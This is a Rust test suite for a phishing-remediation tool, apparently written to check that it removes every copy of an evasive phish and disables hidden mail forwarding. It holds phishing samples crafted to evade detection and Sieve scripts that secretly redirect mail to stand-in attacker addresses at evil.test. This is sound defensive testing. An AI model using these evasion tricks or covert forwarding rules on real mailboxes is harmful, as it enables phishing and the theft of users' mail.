//! The adversarial corpus: phish written to make a remediation tool report success while the
//! mail stays — no Message-ID, an overlong one, one after 70 KiB of headers, one borrowed from
//! a legitimate message in the same mailbox, the malicious link behind 250 decoys, a file name
//! whose time cannot be right, links personalised per recipient, a second wave after the first
//! was purged, and forwarding hidden from a naive reading of Sieve. Each case approves through
//! the REST API and then reads the mailboxes themselves (the files; Pigeonhole for Sieve).

use std::path::{Path, PathBuf};

use mail::Connector;
use model::Role;
use serde_json::{json, Value};

use crate::corpus::drop_message;
use crate::helpers::{spawn_app, spawn_app_with, TestApp};
use crate::pigeonhole::{sends_mail_out, sieve_actions};

pub const PHISH_HOST: &str = "login.evil.test";
pub const PHISH_URL: &str = "https://login.evil.test/verify";

/// A phish whose link is personal to `n`; `headers` come first (a Message-ID, padding…), and
/// `before_link` sits in the body ahead of the malicious link.
pub fn phish(headers: &str, mailbox: &str, n: usize, before_link: &str) -> Vec<u8> {
    format!(
        "{headers}From: \"IT Service Desk\" <desk@service-desk.test>\r\nTo: {mailbox}\r\n\
Subject: Your mailbox is almost full\r\nDate: Mon, 30 Nov 2026 08:00:00 +0000\r\n\
Content-Type: text/plain\r\n\r\n{before_link}\r\nKeep your mail: {PHISH_URL}?u={n}\r\n"
    )
    .into_bytes()
}

/// A Message-ID header of 1,100 bytes (RFC 5322 allows 998 to a line).
pub fn long_id() -> String {
    format!("Message-ID: <{}@evil.test>\r\n", "x".repeat(1_090))
}

/// 70 KiB of headers, to put a Message-ID beyond what a header-only read would see.
pub fn padding() -> String {
    (0..900)
        .map(|i| format!("X-Pad-{i}: {}\r\n", "p".repeat(70)))
        .collect()
}

/// 250 links to decoy hosts, to push the malicious one past a per-message URL cap.
pub fn decoys() -> String {
    (0..250)
        .map(|k| format!("https://cdn{k}.decoy.test/pixel.gif "))
        .collect()
}

/// A colleague's reply in a thread: the message whose Message-ID the attacker borrows.
pub fn thread_reply(mailbox: &str) -> Vec<u8> {
    format!(
        "Message-ID: <thread-7@example.test>\r\nFrom: carol@example.test\r\nTo: {mailbox}\r\n\
Subject: Re: quarterly plan\r\nDate: Mon, 30 Nov 2026 07:00:00 +0000\r\n\r\nSee you at ten.\r\n"
    )
    .into_bytes()
}

pub fn newsletter(mailbox: &str) -> Vec<u8> {
    format!(
        "Message-ID: <weekly-48@news.test>\r\nFrom: news@news.test\r\nTo: {mailbox}\r\n\
Subject: This week\r\nDate: Mon, 30 Nov 2026 06:00:00 +0000\r\n\r\nRead at https://news.test/48\r\n"
    )
    .into_bytes()
}

pub async fn post(app: &TestApp, path: &str, token: &str, body: Value) -> Value {
    let response = app
        .client
        .post(app.url(path))
        .bearer_auth(token)
        .json(&body)
        .send()
        .await
        .unwrap();
    assert!(
        response.status().is_success(),
        "{path}: {}",
        response.status()
    );
    response.json().await.unwrap()
}

/// Adds a malicious indicator; returns the one investigation its hunt started.
pub async fn indicator(app: &TestApp, token: &str, kind: &str, value: &str) -> Value {
    let added = post(
        app,
        "/api/v1/indicators",
        token,
        json!({"kind": kind, "value": value, "verdict": "malicious"}),
    )
    .await;
    let ids = added["investigation_ids"].as_array().unwrap();
    assert_eq!(ids.len(), 1, "{added}");
    app.investigation(token, ids[0].as_str().unwrap()).await
}

/// The investigation's cluster of this kind and value.
pub fn cluster<'a>(inv: &'a Value, by: &str, value: &str) -> &'a Value {
    inv["clusters"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["cluster_by"] == by && c["cluster_value"] == value)
        .unwrap_or_else(|| panic!("no {by} cluster {value}: {}", inv["clusters"]))
}

/// The pending soft delete of that cluster.
pub fn action_on(inv: &Value, cluster: &Value) -> String {
    inv["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["target"]["cluster_id"] == cluster["id"])
        .unwrap_or_else(|| panic!("no action on {}", cluster["id"]))["id"]
        .as_str()
        .unwrap()
        .to_string()
}

pub async fn approve(app: &TestApp, token: &str, id: &str) -> Value {
    app.decide(token, id, "approve", None).await;
    app.settled(token, id).await
}

/// The base name of a Maildir file (what stays when it moves).
fn base_name(path: &Path) -> String {
    let name = path.file_name().unwrap().to_string_lossy();
    name.split(':').next().unwrap().to_string()
}

/// Whether a file of this base name is in the mailbox's folder.
fn is_in(mailbox_dir: &Path, folder: &str, name: &str) -> bool {
    let dir = match folder {
        "INBOX" => mailbox_dir.to_path_buf(),
        _ => mailbox_dir.join(format!(".{folder}")),
    };
    ["cur", "new"].iter().any(|sub| {
        std::fs::read_dir(dir.join(sub)).is_ok_and(|entries| {
            entries
                .flatten()
                .any(|e| e.file_name().to_string_lossy().split(':').next() == Some(name))
        })
    })
}

/// How many messages a Maildir folder holds (`cur/` and `new/`).
fn files(folder_dir: &Path) -> usize {
    ["cur", "new"]
        .iter()
        .filter_map(|sub| std::fs::read_dir(folder_dir.join(sub)).ok())
        .map(|entries| entries.count())
        .sum()
}

/// Asserts every phish left the inbox for Recoverable Items and every benign message stayed.
fn assert_only_the_phish_moved(root: &Path, phish: &[(String, PathBuf)], benign: &[PathBuf]) {
    for (mailbox, path) in phish {
        let dir = root.join(mailbox);
        assert!(
            !path.exists(),
            "a phish is still delivered: {}",
            path.display()
        );
        assert!(
            is_in(&dir, "Recoverable Items", &base_name(path)),
            "{} is not in Recoverable Items",
            path.display()
        );
    }
    for path in benign {
        assert!(
            path.exists(),
            "a benign message was moved: {}",
            path.display()
        );
    }
}

#[tokio::test]
async fn every_phish_copy_goes_whatever_its_headers_say_and_the_legitimate_twin_stays() {
    let app = spawn_app().await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    let (long_id, padding, decoys) = (long_id(), padding(), decoys());
    let mut phish_files = Vec::new();
    let mut add = |mailbox: &str, raw: Vec<u8>| {
        phish_files.push((
            mailbox.to_string(),
            drop_message(&root, mailbox, "INBOX", &raw),
        ));
    };
    add("alice@example.test", phish("", "alice", 1, ""));
    add("alice@example.test", phish(&long_id, "alice", 2, ""));
    add(
        "bob@example.test",
        phish(
            &format!("{padding}Message-ID: <padded@evil.test>\r\n"),
            "bob",
            3,
            "",
        ),
    );
    add(
        "bob@example.test",
        phish("Message-ID: <thread-7@example.test>\r\n", "bob", 4, ""),
    );
    add(
        "carol@example.test",
        phish("Message-ID: <decoyed@evil.test>\r\n", "carol", 5, &decoys),
    );
    add(
        "carol@example.test",
        phish("Message-ID: <plain@evil.test>\r\n", "carol", 6, ""),
    );
    // A delivery time of 13 digits, read as seconds: the year 57900. The file's mtime stands in.
    let odd = root.join("dave@example.test/new/1764150000123.M1P1.adversarial");
    std::fs::create_dir_all(odd.parent().unwrap()).unwrap();
    for sub in ["cur", "tmp"] {
        std::fs::create_dir_all(root.join("dave@example.test").join(sub)).unwrap();
    }
    std::fs::write(
        &odd,
        phish("Message-ID: <late@evil.test>\r\n", "dave", 7, ""),
    )
    .unwrap();
    phish_files.push(("dave@example.test".into(), odd));
    let mut benign = vec![drop_message(
        &root,
        "bob@example.test",
        "INBOX",
        &thread_reply("bob@example.test"),
    )];
    for mailbox in ["alice", "bob", "carol", "dave"] {
        let mailbox = format!("{mailbox}@example.test");
        benign.push(drop_message(
            &root,
            &mailbox,
            "INBOX",
            &newsletter(&mailbox),
        ));
    }
    airdesk_core::index::scan(&app.state).await.unwrap();

    let inv = indicator(&app, &token, "domain", PHISH_HOST).await;

    let cluster = cluster(&inv, "url_domain", PHISH_HOST);
    assert_eq!(
        cluster["email_count"], 7,
        "every copy, whatever its headers"
    );
    let action = approve(&app, &token, &action_on(&inv, cluster)).await;
    assert_eq!(action["status"], "completed", "{action}");
    assert_eq!(action["details"], "7 succeeded");
    assert_only_the_phish_moved(&root, &phish_files, &benign);
    let after = app.investigation(&token, inv["id"].as_str().unwrap()).await;
    assert_eq!(after["status"], "remediated");
}

#[tokio::test]
async fn copies_moved_or_deleted_after_the_scan_are_followed_or_proven_gone() {
    let app = spawn_app().await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    let erin = root.join("erin@example.test");
    let stays = drop_message(
        &root,
        "erin@example.test",
        "INBOX",
        &phish("", "erin", 1, ""),
    );
    let filed = drop_message(
        &root,
        "erin@example.test",
        "INBOX",
        &phish("", "erin", 2, ""),
    );
    let deleted = drop_message(
        &root,
        "erin@example.test",
        "INBOX",
        &phish("", "erin", 3, ""),
    );
    let renamed = drop_message(
        &root,
        "erin@example.test",
        "INBOX",
        &phish("", "erin", 4, ""),
    );
    airdesk_core::index::scan(&app.state).await.unwrap();
    let inv = indicator(&app, &token, "domain", PHISH_HOST).await;
    // After the scan: the user files one away, deletes one, and a tool rewrites one under a
    // new name (same content).
    std::fs::create_dir_all(erin.join(".Archive/cur")).unwrap();
    std::fs::rename(
        &filed,
        erin.join(".Archive/cur").join(filed.file_name().unwrap()),
    )
    .unwrap();
    std::fs::remove_file(&deleted).unwrap();
    let new_name = erin.join("cur/1764150999.M9P9.rewritten:2,S");
    std::fs::rename(&renamed, &new_name).unwrap();

    let action = approve(
        &app,
        &token,
        &action_on(&inv, cluster(&inv, "url_domain", PHISH_HOST)),
    )
    .await;

    assert_eq!(action["status"], "completed", "{action}");
    assert_eq!(
        action["details"],
        "3 succeeded, 1 gone (deleted outside airdesk)"
    );
    let gone = action["results"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["result"] == "gone")
        .unwrap();
    assert!(
        gone["detail"]
            .as_str()
            .unwrap()
            .contains("deleted outside airdesk"),
        "{gone}"
    );
    for path in [&stays, &filed] {
        assert!(is_in(&erin, "Recoverable Items", &base_name(path)));
    }
    assert!(!new_name.exists() && !is_in(&erin, "Archive", &base_name(&filed)));
    assert_eq!(files(&erin.join(".Recoverable Items")), 3);
}

#[tokio::test]
async fn a_personalised_campaign_is_one_cluster_and_every_copy_is_proposed() {
    let app = spawn_app().await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    let mut phish_files = Vec::new();
    for n in 0..25 {
        let mailbox = format!("user{n:02}@example.test");
        let id = format!("Message-ID: <p{n}@evil.test>\r\n");
        let raw = phish(&id, &mailbox, 1000 + n, "");
        phish_files.push((
            mailbox.clone(),
            drop_message(&root, &mailbox, "INBOX", &raw),
        ));
    }
    airdesk_core::index::scan(&app.state).await.unwrap();

    // A user's report clusters the campaign by its link with the personal part taken out.
    let reader = app.token("user00", Role::Reader).await;
    let report = post(
        &app,
        "/api/v1/reports",
        &reader,
        json!({"mailbox": "user00@example.test", "internet_message_id": "<p0@evil.test>"}),
    )
    .await;
    let reported = app
        .investigation(&token, report["investigation_id"].as_str().unwrap())
        .await;
    let pattern = cluster(&reported, "url_pattern", &format!("{PHISH_URL}?u=*"));
    assert_eq!(pattern["email_count"], 25);
    assert!(
        !reported["clusters"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["cluster_by"] == "url"),
        "no single-message URL clusters: {}",
        reported["clusters"]
    );

    // A domain indicator: one URL-domain cluster of every copy, and every copy goes.
    let inv = indicator(&app, &token, "domain", PHISH_HOST).await;
    let by_host = cluster(&inv, "url_domain", PHISH_HOST);
    assert_eq!(by_host["email_count"], 25);
    let action = approve(&app, &token, &action_on(&inv, by_host)).await;
    assert_eq!(action["status"], "completed", "{action}");
    assert_only_the_phish_moved(&root, &phish_files, &[]);
}

#[tokio::test]
async fn a_second_wave_within_the_window_is_remediated_not_de_duplicated() {
    let app = spawn_app().await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    let wave_url = "https://wave.evil.test/pay";
    let wave = |mailbox: &str| {
        let user = mailbox.split('@').next().unwrap();
        format!(
            "Message-ID: <wave-{user}@evil.test>\r\nFrom: pay@wave.evil.test\r\nTo: {mailbox}\r\n\
Subject: Payment failed\r\n\r\nRetry at {wave_url}\r\n"
        )
        .into_bytes()
    };
    let mut first = Vec::new();
    for mailbox in [
        "alice@example.test",
        "bob@example.test",
        "carol@example.test",
    ] {
        first.push((
            mailbox.to_string(),
            drop_message(&root, mailbox, "INBOX", &wave(mailbox)),
        ));
    }
    airdesk_core::index::scan(&app.state).await.unwrap();
    let inv1 = indicator(&app, &token, "url", wave_url).await;
    let first_action = action_on(&inv1, cluster(&inv1, "url", wave_url));
    let done = approve(&app, &token, &first_action).await;
    assert_eq!(done["details"], "3 succeeded");

    // Minutes later: alice gets the very same bytes again, dave gets his first copy.
    let second = vec![
        (
            "alice@example.test".to_string(),
            drop_message(
                &root,
                "alice@example.test",
                "INBOX",
                &wave("alice@example.test"),
            ),
        ),
        (
            "dave@example.test".to_string(),
            drop_message(
                &root,
                "dave@example.test",
                "INBOX",
                &wave("dave@example.test"),
            ),
        ),
    ];
    airdesk_core::index::scan(&app.state).await.unwrap();
    let reader = app.token("dave", Role::Reader).await;
    let report = post(
        &app,
        "/api/v1/reports",
        &reader,
        json!({"mailbox": "dave@example.test", "internet_message_id": "<wave-dave@evil.test>"}),
    )
    .await;
    let inv2 = app
        .investigation(&token, report["investigation_id"].as_str().unwrap())
        .await;
    let again = cluster(&inv2, "url", wave_url);
    assert_eq!(
        again["email_count"], 5,
        "both waves, the first one already purged"
    );

    let action = approve(&app, &token, &action_on(&inv2, again)).await;

    assert_eq!(action["status"], "completed", "{action}");
    assert_eq!(action["duplicate_of"], first_action.as_str());
    let details = action["details"].as_str().unwrap();
    assert!(
        details.starts_with(&format!(
            "De-duplicated 3 copies already handled by action {first_action}"
        )) && details
            .contains("; 2 new copies remediated (2 succeeded, 3 handled by an earlier approval)"),
        "{details}"
    );
    assert_only_the_phish_moved(&root, &first, &[]);
    assert_only_the_phish_moved(&root, &second, &[]);
    // The same copies' sender and subject clusters: every copy is handled already.
    for other in inv2["actions"].as_array().unwrap() {
        let id = other["id"].as_str().unwrap();
        if id != action["id"] {
            let decided: Value = app
                .decide(&token, id, "approve", None)
                .await
                .json()
                .await
                .unwrap();
            assert_eq!(decided["status"], "duplicate", "{decided}");
        }
    }
    let after = app
        .investigation(&token, inv2["id"].as_str().unwrap())
        .await;
    assert_eq!(after["status"], "remediated");
}

#[tokio::test]
async fn a_cluster_larger_than_a_page_keeps_and_remediates_every_copy() {
    let app = spawn_app().await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    const MAILBOXES: usize = 51;
    const EACH: usize = 100;
    for m in 0..MAILBOXES {
        let mailbox = format!("u{m:02}@example.test");
        for n in 0..EACH {
            let id = format!("Message-ID: <big-{m}-{n}@evil.test>\r\n");
            drop_message(&root, &mailbox, "INBOX", &phish(&id, &mailbox, n, ""));
        }
    }
    airdesk_core::index::scan(&app.state).await.unwrap();

    let inv = indicator(&app, &token, "url", &format!("{PHISH_URL}?u=7")).await;
    let exact = cluster(&inv, "url", &format!("{PHISH_URL}?u=7"));
    assert_eq!(exact["email_count"], MAILBOXES);
    let inv = indicator(&app, &token, "domain", PHISH_HOST).await;
    let all = cluster(&inv, "url_domain", PHISH_HOST);
    assert_eq!(
        all["email_count"],
        MAILBOXES * EACH,
        "no cap drops the newest"
    );
    assert_eq!(
        all["messages"].as_array().unwrap().len(),
        1_000,
        "the first thousand shown"
    );

    let action = approve(&app, &token, &action_on(&inv, all)).await;

    assert_eq!(action["status"], "completed");
    assert_eq!(action["details"], format!("{} succeeded", MAILBOXES * EACH));
    for m in 0..MAILBOXES {
        let dir = root.join(format!("u{m:02}@example.test"));
        assert_eq!(files(&dir), 0);
        assert_eq!(files(&dir.join(".Recoverable Items")), EACH);
    }
}

/// Writes a mailbox's Sieve scripts (name, text), the first one active.
pub fn sieve_scripts(mailbox_dir: &Path, scripts: &[(&str, &str)]) {
    std::fs::create_dir_all(mailbox_dir.join("sieve")).unwrap();
    for (name, text) in scripts {
        std::fs::write(mailbox_dir.join(format!("sieve/{name}.sieve")), text).unwrap();
    }
    std::os::unix::fs::symlink(
        format!("sieve/{}.sieve", scripts[0].0),
        mailbox_dir.join(".dovecot.sieve"),
    )
    .unwrap();
}

#[tokio::test]
async fn forwarding_hidden_from_a_naive_reading_is_found_and_turned_off_for_pigeonhole() {
    let app = spawn_app_with(|s| {
        if let Connector::Maildir { root, sieve_global } = &mut s.mail {
            *sieve_global = Some(root.parent().unwrap().join("sieve-global"));
        }
    })
    .await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    let global = root.parent().unwrap().join("sieve-global");
    std::fs::create_dir_all(&global).unwrap();
    std::fs::write(
        global.join("corp.sieve"),
        "redirect \"archive@vendor.test\";\n",
    )
    .unwrap();
    let cases: [(&str, &[(&str, &str)]); 7] = [
        (
            "var",
            &[(
                "main",
                "require [\"variables\"];\nset \"t\" \"x@evil.test\";\nredirect \"${t}\";\n",
            )],
        ),
        (
            "hex",
            &[(
                "main",
                "require \"encoded-character\";\nredirect \"${hex:78}@evil.test\";\n",
            )],
        ),
        (
            "personal",
            &[
                (
                    "main",
                    "require \"include\";\ninclude :personal \"fwd\";\nkeep;\n",
                ),
                (
                    "fwd",
                    "require \"copy\";\nredirect :copy \"y@evil.test\";\n",
                ),
            ],
        ),
        (
            "global",
            &[(
                "main",
                "require \"include\";\ninclude :global \"corp\";\nkeep;\n",
            )],
        ),
        (
            "notify",
            &[(
                "main",
                "require \"enotify\";\nnotify :message \"new mail\" \"mailto:w@evil.test\";\n",
            )],
        ),
        (
            "broken",
            &[("main", "redirect \"v@evil.test\"\nif true {\n")],
        ),
        ("inside", &[("main", "redirect \"team@example.test\";\n")]),
    ];
    for (name, scripts) in &cases {
        let mailbox = format!("{name}@example.test");
        drop_message(&root, &mailbox, "INBOX", &phish("", &mailbox, 1, ""));
        sieve_scripts(&root.join(&mailbox), scripts);
    }
    // The attack is real: Pigeonhole forwards for every case but the broken one.
    for (name, _) in &cases[..5] {
        let actions = sieve_actions(&root.join(format!("{name}@example.test")), Some(&global));
        assert!(
            sends_mail_out(&actions.clone().unwrap()),
            "{name}: {actions:?}"
        );
    }
    airdesk_core::index::scan(&app.state).await.unwrap();

    let inv = indicator(&app, &token, "domain", PHISH_HOST).await;

    let turn_offs: Vec<(String, String)> = inv["actions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["type"] == "turn_off_forwarding")
        .map(|a| {
            (
                a["target"]["mailbox"].as_str().unwrap().to_string(),
                a["id"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    let mut proposed: Vec<&str> = turn_offs.iter().map(|(m, _)| m.as_str()).collect();
    proposed.sort();
    assert_eq!(
        proposed,
        [
            "broken@example.test",
            "global@example.test",
            "hex@example.test",
            "notify@example.test",
            "personal@example.test",
            "var@example.test"
        ]
    );
    let broken = inv["forwarding"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["mailbox"] == "broken@example.test")
        .unwrap();
    assert_eq!(broken["verdict"], "suspicious");
    assert!(
        broken["detail"]
            .as_str()
            .unwrap()
            .contains("cannot be trusted"),
        "{broken}"
    );

    for (mailbox, id) in &turn_offs {
        let action = approve(&app, &token, id).await;
        assert_eq!(action["status"], "completed", "{mailbox}: {action}");
        let detail = action["results"][0]["detail"].as_str().unwrap();
        assert!(detail.starts_with("turned off "), "{detail}");
        let dir = root.join(mailbox);
        let now = sieve_actions(&dir, Some(&global))
            .unwrap_or_else(|e| panic!("{mailbox}: the new script must compile: {e}"));
        assert!(!sends_mail_out(&now), "{mailbox} still forwards: {now}");
        assert!(
            now.contains("store message in folder: INBOX"),
            "{mailbox}: {now}"
        );
    }
    // The originals are kept, byte for byte, for undo; the global one is never touched.
    assert_eq!(
        std::fs::read_to_string(root.join("personal@example.test/sieve/fwd.sieve")).unwrap(),
        "require \"copy\";\nredirect :copy \"y@evil.test\";\n"
    );
    assert_eq!(
        std::fs::read_to_string(global.join("corp.sieve")).unwrap(),
        "redirect \"archive@vendor.test\";\n"
    );
}

#[tokio::test]
async fn an_ingest_naming_a_borrowed_message_id_moves_only_the_copy_it_describes() {
    let app = spawn_app().await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let root = app.mail_root();
    let bob = "bob@example.test";
    let legit = drop_message(&root, bob, "INBOX", &thread_reply(bob));
    let borrowed = drop_message(
        &root,
        bob,
        "INBOX",
        &phish("Message-ID: <thread-7@example.test>\r\n", bob, 1, ""),
    );
    airdesk_core::index::scan(&app.state).await.unwrap();
    let ingest = |sender: &str, subject: &str| {
        let mut body = crate::helpers::api_md_example();
        body["clusters"][0]["cluster_value"] =
            json!(format!("http://{}.evil.test/", airdesk_core::new_id()));
        body["clusters"][0]["messages"] = json!([{"mailbox": bob,
            "internet_message_id": "<thread-7@example.test>", "sender": sender,
            "subject": subject, "received_at": "2026-11-30T08:00:00Z"}]);
        body["forwarding"] = json!([]);
        body
    };

    // Described as neither copy: which one is meant cannot be told, so neither moves.
    let vague: Value = app
        .ingest(&token, &ingest("someone@else.test", "Something else"))
        .await
        .json()
        .await
        .unwrap();
    let action = approve(&app, &token, vague["actions"][0]["id"].as_str().unwrap()).await;
    assert_eq!(action["status"], "failed", "{action}");
    assert_eq!(action["details"], "1 not found");
    assert!(legit.exists() && borrowed.exists());

    // Described as the phish: only the phish moves.
    let named: Value = app
        .ingest(
            &token,
            &ingest("desk@service-desk.test", "Your mailbox is almost full"),
        )
        .await
        .json()
        .await
        .unwrap();
    let action = approve(&app, &token, named["actions"][0]["id"].as_str().unwrap()).await;
    assert_eq!(action["status"], "completed", "{action}");
    assert_eq!(action["details"], "1 succeeded");
    assert_only_the_phish_moved(&root, &[(bob.to_string(), borrowed)], &[legit]);
}

/// One approval named its copies before the index held them (claimed by Message-ID), a second
/// named the same copies after (claimed by handle): whichever executes first carries each copy
/// out, and the other finds it held and records it as a duplicate — never acted on twice.
#[tokio::test]
async fn approvals_naming_one_copy_before_and_after_the_index_held_it_act_once() {
    let app = spawn_app_with(|s| s.execution.workers = 0).await;
    let token = app.token("analyst", Role::SearchAndPurge).await;
    let alice = app.deliver("alice@example.test", "<c1-1@evil.test>", "INBOX");
    let mut body = crate::helpers::api_md_example();
    body["forwarding"] = json!([]);
    let before = first_action(&app, &token, &body).await;
    assert_eq!(
        app.decide(&token, &before, "approve", None).await.status(),
        200
    );
    airdesk_core::index::scan(&app.state).await.unwrap();
    let after = first_action(&app, &token, &body).await;
    let approved: Value = app
        .decide(&token, &after, "approve", None)
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(
        approved["status"], "approved",
        "claimed by handle, not held yet: {approved}"
    );

    let executor = airdesk_core::actions::Executor::new(
        app.state.clone(),
        airdesk_core::actions::ExecutionConfig::default(),
    );
    while executor.run_once().await.unwrap() {}
    let results: Vec<(String, String)> =
        airdesk_core::db::query("SELECT action_id, result FROM action_results ORDER BY action_id")
            .fetch_all(&app.db)
            .await
            .unwrap();
    let acted: Vec<_> = results.iter().filter(|(_, r)| r == "success").collect();
    let held: Vec<_> = results.iter().filter(|(_, r)| r == "duplicate").collect();
    assert_eq!((acted.len(), held.len()), (1, 1), "{results:?}");
    assert_ne!(acted[0].0, held[0].0);
    let name = base_name(&alice);
    let mailbox = app.mail_root().join("alice@example.test");
    assert!(is_in(&mailbox, "Recoverable Items", &name));
    assert_eq!(files(&mailbox.join(".Recoverable Items")), 1, "moved once");
}

/// Ingests `body`; answers its first action's id.
async fn first_action(app: &TestApp, token: &str, body: &Value) -> String {
    let created: Value = app.ingest(token, body).await.json().await.unwrap();
    created["actions"][0]["id"].as_str().unwrap().to_string()
}
